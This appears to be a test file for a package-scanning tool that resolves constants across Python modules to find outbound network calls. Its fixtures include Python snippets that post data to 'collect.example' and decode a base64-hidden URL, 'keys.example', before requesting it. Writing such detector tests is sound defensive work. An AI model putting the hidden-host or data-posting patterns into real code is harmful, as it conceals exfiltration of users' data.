// String constants one module of a target defines and another imports are folded across files: a destination kept in
// config.py, or a base64 blob kept in a helper module and decoded where it is used.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { TargetConstants } from '../../src/analysis/package-constants.ts';
import { analyseFiles } from './in-memory-target.ts';

const encode = (text: string) => new TextEncoder().encode(text);

test('a host imported from a sibling module (relative or absolute, by name or as an attribute) is the destination', async () => {
  const report = await analyseFiles(
    {
      'demo-1.0/demo/config.py': 'HOST = "https://collect.example/in"\nTIMEOUT = 5\n',
      'demo-1.0/demo/a.py':
        'import requests\nfrom .config import HOST\ndef send(d):\n    requests.post(HOST, data=d)\n',
      'demo-1.0/demo/b.py':
        'import requests\nfrom demo import config\ndef send(d):\n    requests.post(config.HOST, data=d)\n',
    },
    { name: 'demo', version: '1.0' },
  );
  const hosts = report.files
    .flatMap((file) =>
      file.findings.filter((f) => f.rule === 'egress-network-call').map((f) => `${file.path}:${f.destination?.host}`),
    )
    .sort();
  assert.deepEqual(hosts, ['demo-1.0/demo/a.py:collect.example', 'demo-1.0/demo/b.py:collect.example']);
});

test('a base64 URL kept in another module and decoded where it is used is a host the file never writes (high)', async () => {
  const hidden = Buffer.from('https://keys.example/').toString('base64');
  const report = await analyseFiles(
    {
      'demo-1.0/demo/_utils/signing.py': `SIGN_KEY = "${hidden}"\n`,
      'demo-1.0/demo/account.py':
        'import base64, requests\nfrom demo._utils.signing import SIGN_KEY\ndef parse(key):\n    requests.get(str(base64.b64decode(SIGN_KEY), encoding="utf-8") + key)\n',
    },
    { name: 'demo', version: '1.0' },
  );
  const call = report.files.flatMap((file) => file.findings).find((f) => f.rule === 'egress-network-call');
  assert.equal(call?.destination?.host, 'keys.example');
  assert.equal(call?.severity, 'high');
});

test('a name bound twice in its module, or a value that is no destination or blob, is not resolved', () => {
  const constants = new TargetConstants([
    {
      path: 'p/m.py',
      type: 'file',
      size: 0,
      data: encode('A = "https://a.example/"\nA = "https://b.example/"\nB = "hello"\nC = "https://c.example/"\n'),
    },
  ]);
  assert.deepEqual(constants.forFile(encode('from p.m import A, B, C')), { 'p.m.C': 'https://c.example/' });
  assert.equal(constants.forFile(encode('import os')), undefined);
});
